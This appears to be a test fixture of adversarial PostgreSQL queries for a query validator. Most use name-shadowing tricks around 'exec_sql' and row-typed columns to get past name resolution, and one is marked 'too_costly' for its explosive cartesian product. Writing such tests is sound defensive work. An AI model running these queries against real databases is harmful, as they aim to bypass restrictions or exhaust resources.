select 1 from (select 1 as exec_sql) q, (select o.*, 'boom'::text as q from orders o) as s(a) order by (q).exec_sql

select 1 from (select 1 as exec_sql) q where exists (select 1 from (select o.*, 'boom'::text as q from orders o) as s(a) where (q).exec_sql is null)

select evil_o.evil_o from orders o, unnest(array[array[o]]) evil_o where evil_o.exec_sql is null

select (select exec_sql.exec_sql from unnest(array[array[c]]) q(b)) from customers c, unnest(array[null, c]) b(exec_sql), lateral (select (b).exec_sql) exec_sql

-- expect: too_costly

with a as (select 1 as a, 1 as b, 1 as c, 1 as d, 1 as e, 1 as f, 1 as g, 1 as h, 1 as i, 1 as j, 1 as k, 1 as l, 1 as m, 1 as n, 1 as o, 1 as p, 1 as q, 1 as r, 1 as s, 1 as t, 1 as u, 1 as v, 1 as w, 1 as x, 1 as y), b as (select a0.*, a1.*, a2.*, a3.*, a4.*, a5.*, a6.*, a7.* from a a0, a a1, a a2, a a3, a a4, a a5, a a6, a a7), u as (select b0.*, b1.*, b2.*, b3.*, b4.*, b5.*, b6.*, b7.* from b b0, b b1, b b2, b b3, b b4, b b5, b b6, b b7) select (o).exec_sql from (select 1 as exec_sql) o, (select * from u) n0, (select * from u) n1, (select * from u) n2, (select * from u) n3, (select * from u) n4, (select * from u) n5, (select * from u) n6, (select * from u) n7, (select * from u) n8, (select * from u) n9, (select * from u) n10, (select * from u) n11, (select * from u) n12, (select * from u) n13, (select * from u) n14, (select * from u) n15, (select * from u) n16, (select * from u) n17, (select * from u) n18, (select * from u) n19, (select * from u) n20, (select * from u) n21, (select * from u) n22, (select * from u) n23, (select * from u) n24, (select * from u) n25, (select 'boom'::text as o) x
